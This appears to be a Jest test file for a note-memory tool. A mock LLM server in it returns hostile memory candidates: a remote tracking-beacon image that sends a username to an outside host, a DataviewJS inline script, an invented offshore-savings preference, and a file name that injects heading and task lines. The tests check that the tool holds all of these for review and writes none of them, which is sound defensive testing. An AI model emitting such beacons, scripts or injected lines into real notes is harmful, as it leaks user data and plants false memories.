/**
 * Issue 12 item 5, end to end against a hostile endpoint on loopback: a
 * remote image (a beacon), a DataviewJS inline query and an invented
 * preference, each cited on a real span, reached notes and MEMORY.md. Now
 * each is held for review with its reason, and nothing of them is written;
 * an index rewrite carrying the same markup is refused.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { candidatesFor, startLlmServer, userMessage, type LlmServer, type RecordedRequest } from '../helpers/llm-server';
import { cleanUp, dreamOn } from '../secrets/support';

const NOTES = {
  'Journal/2026-11-20.md': '# Thursday\n\nPlanted garlic in the north bed today; the soil was wet after the rain.\n\nI prefer walking to the market on Saturdays.\n',
};
const HOSTILE = [
  'Planted garlic in the north bed ![](https://track.example.net/p.gif?u=maya)',
  'Garlic count in the north bed: `$= dv.pages().length`',
  'Prefers wiring savings to an offshore account every Friday',
];
const isIndex = (req: RecordedRequest): boolean => userMessage(req).includes('\nINDEX START\n');

describe.each(['openai', 'anthropic'] as const)('a model that writes markup and invents (%s)', (provider) => {
  let server: LlmServer;
  beforeEach(async () => {
    server = await startLlmServer({
      fallback: (req) => {
        if (isIndex(req)) return { answer: { index: '# Memory\n\n![](https://track.example.net/i.gif)\n' } };
        const [first] = candidatesFor(req).candidates;
        const base = { ...first, importance: 0.9, stability: 0.8, actionability: 0.6 };
        return { answer: { candidates: HOSTILE.map((text) => ({ ...base, text })) } };
      },
    });
  });
  afterEach(async () => {
    cleanUp();
    await server.close();
  });

  it('holds each for review with its reason; none of it reaches a note or the index', async () => {
    const { summary, files } = await dreamOn(NOTES, { mode: 'run', server, provider, apiKey: 'test-key-123' });
    expect(summary.status).toBe('completed');
    // The review queue keeps held text as data, one JSON line each inside a code fence, where no markup renders.
    const memory = [...files].filter(([f]) => f.startsWith('Memory/') && !f.startsWith('Memory/Dreaming/Reports/') && !f.startsWith('Memory/Dreaming/'));
    for (const [f, text] of memory) {
      for (const bad of ['track.example.net', '$=', 'offshore']) expect(`${f}: ${text.includes(bad) ? bad : ''}`).toBe(`${f}: `);
    }
    const pending = files.get('Memory/Dreaming/review-queue.md') ?? '';
    const fenced = /```json\n([\s\S]*)\n```\n$/.exec(pending)?.[1] ?? '';
    // Outside the fence the queue note shows the words as a card, escaped or held as inline code: no image is fetched when the note is shown.
    const live = (line: string): string => line.replace(/(`+)[^`]*?\1/g, '');
    for (const line of pending.split('\n')) if (line.includes('track.example.net') && !fenced.includes(line)) expect(live(line)).not.toMatch(/(^|[^\\])!\[/);
    expect(pending).toMatch(/remote-embed/);
    expect(pending).toMatch(/inline-script/);
    expect(pending).toMatch(/ungrounded/);
    expect(summary.pending).toBeGreaterThanOrEqual(3);
    // The index rewrite is asked for only when the dream changed an entry (issue 21); when it is, its remote embed is refused.
    if (server.requests.some(isIndex)) expect(summary.messages.map((m) => m.text).join('\n')).toMatch(/embeds a remote resource/);
  });
});

describe('a source file name that carries lines', () => {
  afterEach(cleanUp);

  it.each(['run', 'backfill'] as const)('%s: a line break or heading syntax in the name adds no line to any note', async (mode) => {
    const name = 'Journal/2026-11-20\n# Injected heading\n- [x] injected task ]] | x.md';
    const { summary, files } = await dreamOn({ [name]: '# Thursday\n\nI prefer walking to the market on Saturdays.\n' }, { mode });
    expect(summary.status).toBe('completed');
    const written = [...files].filter(([f]) => f.startsWith('Memory/'));
    expect(written.some(([f]) => f.startsWith('Memory/Daily/'))).toBe(true);
    for (const [f, text] of written) {
      // Frontmatter keeps the name as a YAML string; the Markdown body must not gain its lines.
      const body = text.startsWith('---\n') ? text.slice(text.indexOf('\n---\n', 4) + 5) : text;
      const injected = body.split('\n').filter((l) => /^\s*(?:# Injected|- \[x\] injected)/.test(l));
      expect(`${f}: ${injected.join(' / ')}`).toBe(`${f}: `);
    }
  });
});
